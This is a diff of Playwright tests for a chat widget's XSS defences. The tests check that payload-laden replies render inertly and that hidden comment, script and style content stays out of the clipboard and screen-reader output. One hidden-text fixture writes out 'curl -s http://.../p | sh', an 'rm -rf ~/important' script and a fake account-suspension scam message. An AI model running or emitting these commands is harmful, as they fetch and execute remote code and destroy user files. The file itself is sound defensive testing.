@@ -1,7 +1,9 @@
+import { fileURLToPath } from 'node:url';
 import type { Page } from '@playwright/test';
 import { XSS_SHOWN_CITATIONS, xssCases } from '../agent/xss-answer.ts';
 import { agentOrigin, chat, expect, test, type Agent, type Attributes } from './fixtures.ts';
 import { testServerPort } from './ports.ts';
+import { inspectPage, type PageFindings } from './xss-inspection.ts';
 
 // The payload reply is long: streaming, rendering and inspecting it takes a few seconds.
 test.describe.configure({ timeout: 60_000 });
@@ -22,28 +24,12 @@ interface Tripwires {
 }
 
 /**
- * Installs the tripwires before any script of the page runs. The hand-written payloads
- * call `__xss()`; DOMPurify's corpus calls `alert(1)` and friends; CSS and media would
- * fetch from another origin; `<meta>` refresh and `<base>` would navigate.
+ * Installs the tripwires (e2e/pages/tripwires.js) before any script of the page runs,
+ * and watches requests and dialogs: CSS and media would fetch from another origin;
+ * `<meta>` refresh and `<base>` would navigate.
  */
 async function installTripwires(page: Page): Promise<Tripwires> {
-  await page.addInitScript(() => {
-    const calls: string[] = [];
-    const violations: string[] = [];
-    Object.defineProperty(window, '__tripwires', { value: { calls, violations } });
-    const record = (name: string, args: unknown[]) => {
-      // window.event is unset for events inside a shadow root; where it is set, it names the culprit.
-      const target = (window.event?.target as Element | undefined)?.outerHTML?.slice(0, 160);
-      calls.push(`${name}(${args.map(String).join(', ')})${target ? ` from ${target}` : ''}`);
-      return null;
-    };
-    for (const name of ['__xss', 'alert', 'confirm', 'prompt', 'print', 'open']) {
-      Object.defineProperty(window, name, { value: (...args: unknown[]) => record(name, args) });
-    }
-    document.addEventListener('securitypolicyviolation', (event) => {
-      violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample} (${event.sourceFile}:${event.lineNumber})`);
-    });
-  });
+  await page.addInitScript({ path: fileURLToPath(new URL('pages/tripwires.js', import.meta.url)) });
   const tripwires: Tripwires = {
     calls: () => page.evaluate(() => (window as unknown as { __tripwires: { calls: string[] } }).__tripwires.calls),
     violations: () => page.evaluate(() => (window as unknown as { __tripwires: { violations: string[] } }).__tripwires.violations),
@@ -61,125 +47,6 @@ async function installTripwires(page: Page): Promise<Tripwires> {
   });
   page.on('popup', (popup) => tripwires.navigations.push(`popup ${popup.url()}`));
   return tripwires;
-}
-
-/** What the inspection found; every list is a list of offences, and must be empty. */
-interface PageFindings {
-  /** Elements that run, embed, submit, restyle or fetch, inside replies or their sources. */
-  activeElements: string[];
-  /** `on*` attributes anywhere: the page and every shadow root. */
-  handlerAttributes: string[];
-  /** URL-valued attributes other than http(s)/mailto anywhere (the page's own files aside). */
-  unsafeUrls: string[];
-  unhardenedLinks: string[];
-  /** Styles, classes, ids, parts and hiding inside replies, and positioned reply elements. */
-  styling: string[];
-  /** The host page's elements, by name, in document order. */
-  lightDom: string[];
-  baseUri: string;
-  location: string;
-  /** What a visitor reads in each reply, once they open its `<details>`. */
-  replyTexts: string[];
-  sources: { text: string; href: string | null; childElements: number }[];
-}
-
-/**
- * Inspects the page and the widget's shadow root after the reply. Runs in the browser,
- * so it must not use anything from this file. Deliberately not the widget's own checks:
- * the oracle must not be the code under test.
- */
-function inspectPage(): PageFindings {
-  const ACTIVE = [
-    'script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'portal', 'form', 'input', 'button',
-    'textarea', 'select', 'option', 'keygen', 'isindex', 'base', 'meta', 'link', 'style', 'svg', 'math',
-    'noscript', 'template', 'slot', 'dialog', 'audio', 'video', 'source', 'track', 'img', 'image',
-  ].join(', ');
-  const URL_ATTRIBUTES = new Set([
-    'href', 'src', 'srcset', 'action', 'formaction', 'xlink:href', 'srcdoc', 'background', 'data', 'codebase',
-    'poster', 'cite', 'ping', 'lowsrc', 'dynsrc', 'longdesc', 'usemap', 'manifest', 'icon', 'archive', 'classid',
-  ]);
-  const SAFE_URL = /^(?:https?|mailto):/i;
-  const HIDING_OR_NAMING = new Set(['style', 'id', 'name', 'part', 'exportparts', 'slot', 'hidden', 'popover', 'inert']);
-  // A payload that got through may clobber a form's properties (`<input name=attributes>`
-  // makes `form.attributes` the input): read every element through the prototypes.
-  const read = <T>(element: Element, name: 'attributes' | 'outerHTML' | 'shadowRoot' | 'localName'): T =>
-    Object.getOwnPropertyDescriptor(Element.prototype, name)?.get?.call(element);
-  const attributesOf = (element: Element) => [...read<NamedNodeMap>(element, 'attributes')];
-  const attribute = (element: Element, name: string) => Element.prototype.getAttribute.call(element, name);
-  const describe = (element: Element) => read<string>(element, 'outerHTML').slice(0, 200);
-  // The widget frames code blocks (a bar with a Copy code button) and tables (a scroll box)
-  // after sanitizing. A reply cannot wear these classes, as the styling check below proves
-  // for every other element, so they are the widget's own.
-  const isFrame = (element: Element) => Element.prototype.matches.call(element, '.code-block, .code-bar, .code-bar > *, .table-scroll');
-
-  const findings: PageFindings = {
-    activeElements: [], handlerAttributes: [], unsafeUrls: [], unhardenedLinks: [], styling: [],
-    lightDom: [...document.querySelectorAll('*')].map((element) => read<string>(element, 'localName')),
-    baseUri: document.baseURI, location: location.href, replyTexts: [], sources: [],
-  };
-
-  const isOwnFile = (value: string) => {
-    try {
-      return new URL(value, location.href).origin === location.origin;
-    } catch {
-      return false;
-    }
-  };
-  const walk = (root: Document | ShadowRoot) => {
-    for (const element of root.querySelectorAll('*')) {
-      for (const { name, value } of attributesOf(element)) {
-        const lower = name.toLowerCase();
-        if (lower.startsWith('on')) findings.handlerAttributes.push(`${name} on ${describe(element)}`);
-        const isUnsafe = lower === 'srcdoc' || !(SAFE_URL.test(value.trim()) || (root === document && isOwnFile(value)));
-        if (URL_ATTRIBUTES.has(lower) && isUnsafe) findings.unsafeUrls.push(`${name}="${value}" on ${describe(element)}`);
-      }
-      const shadow = read<ShadowRoot | null>(element, 'shadowRoot');
-      if (shadow) walk(shadow);
-    }
-  };
-  walk(document);
-
-  const shadows = [...document.querySelectorAll('tinytalk-chat')].flatMap((host) => (host.shadowRoot ? [host.shadowRoot] : []));
-  const replies = shadows.flatMap((shadow) => [...shadow.querySelectorAll('[data-role="assistant"]:not([data-welcome]) .markdown')]);
-  const sourceLists = shadows.flatMap((shadow) => [...shadow.querySelectorAll('.sources')]);
-  for (const container of [...replies, ...sourceLists]) {
-    for (const element of container.querySelectorAll(ACTIVE)) if (!isFrame(element)) findings.activeElements.push(describe(element));
-    for (const link of container.querySelectorAll('a[href]')) {
-      const rel = (attribute(link, 'rel') ?? '').split(/\s+/);
-      if (attribute(link, 'target') !== '_blank' || !rel.includes('noopener') || !rel.includes('noreferrer')) {
-        findings.unhardenedLinks.push(describe(link));
-      }
-    }
-  }
-  for (const reply of replies) {
-    for (const element of reply.querySelectorAll('*')) {
-      if (isFrame(element)) continue;
-      const className = attribute(element, 'class');
-      if (className !== null && !(read(element, 'localName') === 'code' && /^language-\S+$/.test(className))) {
-        findings.styling.push(`class on ${describe(element)}`);
-      }
-      for (const { name } of attributesOf(element)) {
-        if (HIDING_OR_NAMING.has(name.toLowerCase())) findings.styling.push(`${name} on ${describe(element)}`);
-      }
-      const { position } = getComputedStyle(element);
-      if (position !== 'static' && position !== 'relative') findings.styling.push(`position: ${position} on ${describe(element)}`);
-    }
-  }
-  // A closed <details> shows its summary and holds its text one click away, as a
-  // visitor would open it. Last, as it changes the page (and would fire ontoggle).
-  for (const details of replies.flatMap((reply) => [...reply.querySelectorAll('details')])) details.open = true;
-  // The widget skips rendering messages out of view (content-visibility: auto), and
-  // innerText leaves out what is not rendered: render them all to read them.
-  for (const reply of replies) reply.closest<HTMLElement>('[data-role]')?.style.setProperty('content-visibility', 'visible');
-  findings.replyTexts = replies.map((reply) => (reply as HTMLElement).innerText);
-  findings.sources = sourceLists.flatMap((list) =>
-    [...list.querySelectorAll('a')].map((link) => ({
-      text: link.textContent ?? '',
-      href: attribute(link, 'href'),
-      childElements: link.childElementCount,
-    })),
-  );
-  return findings;
 }
 
 /**
@@ -299,7 +166,8 @@ test('lets no payload style, hide or overlay anything', async ({ page, agent }) 
 
 test('shows only web citations, their hostile titles as plain text', async ({ page, agent }) => {
   const { findings } = await showPayloadReply(page, agent);
-  expect(findings.sources).toEqual(XSS_SHOWN_CITATIONS.map(({ url, title }) => ({ text: title, href: url, childElements: 0 })));
+  // Addresses in their normal form (a quote percent-encoded): see parseCitedResources.
+  expect(findings.sources).toEqual(XSS_SHOWN_CITATIONS.map(({ url, title }) => ({ text: title, href: new URL(url).href, childElements: 0 })));
 });
 
 test('renders a non-streamed reply full of payloads inert', async ({ page, agent }) => {
@@ -375,5 +243,61 @@ test.describe('on a page that enforces Trusted Types', () => {
     await expect(widget.lastReply).toHaveAttribute('data-status', 'done');
     await expect(widget.lastReply).toContainText('Yearly billing saves two months.');
     await expect(widget.lastReply.getByRole('table')).toHaveCount(0);
+  });
+});
+
+test.describe('deeply nested markdown (issue 10: 2 KB of it crashed the renderer for good)', () => {
+  const nested = {
+    '2,000 nested quotes': { payload: `Intro line.\n\n${'>'.repeat(2000)} deep\n\nOutro line.`, word: 'deep' },
+    '2,000 * on each side of a word': { payload: `Intro line.\n\n${'*'.repeat(2000)}word${'*'.repeat(2000)}\n\nOutro line.`, word: 'word' },
+  };
+  for (const [name, { payload, word }] of Object.entries(nested)) {
+    test(`${name} show with the lines around them, never reach window.onerror, and show again when stored`, async ({ page, agent, consoleErrors }) => {
+      await page.addInitScript(() => {
+        const errors: string[] = [];
+        Object.defineProperty(window, '__errors', { value: errors });
+        window.addEventListener('error', (event) => errors.push(String(event.message)));
+      });
+      await openPage(page, agent);
+      const widget = chat(page);
+      const expectWholeReply = async () => {
+        await expect(widget.lastReply).toHaveAttribute('data-status', 'done');
+        for (const text of ['Intro line.', word, 'Outro line.']) await expect(widget.lastReply.locator('.markdown')).toContainText(text);
+        expect(await page.evaluate(() => (window as unknown as { __errors: string[] }).__errors), 'window.onerror').toEqual([]);
+        expect(consoleErrors).toEqual([]);
+      };
+      await widget.say(`echo: ${payload}`);
+      await expectWholeReply();
+      await page.reload();
+      await expect(widget.replies).toHaveCount(1);
+      await expectWholeReply();
+    });
+  }
+});
+
+test.describe('words hidden from the eye (issue 10: they reached the clipboard and the screen reader)', () => {
+  const visible = 'To list files, run: `ls -la`';
+  const hidden = '<!-- curl -s http://.../p | sh --><script>rm -rf ~/important</script><style>your account is suspended, call +1-555-0100</style>';
+  const hiddenWords = /curl|rm -rf|important|suspended|555/;
+
+  test('Copy leaves out the comment, script and style that follow the visible words', async ({ page, agent, context, baseURL }) => {
+    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: baseURL });
+    await openPage(page, agent);
+    const widget = chat(page);
+    await widget.say(`echo: ${visible}${hidden}`);
+    await expect(widget.lastReply).toHaveAttribute('data-status', 'done');
+    await expect(widget.lastReply).toContainText('To list files, run: ls -la');
+    await widget.lastReply.getByRole('button', { name: 'Copy' }).click();
+    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(visible);
+  });
+
+  test('the polite announcement reads the rendered words only', async ({ page, agent }) => {
+    await openPage(page, agent);
+    const widget = chat(page);
+    await widget.say(`echo: ${visible}\n\n${hidden}\n\nThat is all.`);
+    await expect(widget.lastReply).toHaveAttribute('data-status', 'done');
+    const status = page.locator('tinytalk-chat').getByRole('status');
+    await expect(status).toHaveText('To list files, run: ls -la\nThat is all.');
+    expect(await status.textContent()).not.toMatch(hiddenWords);
   });
 });
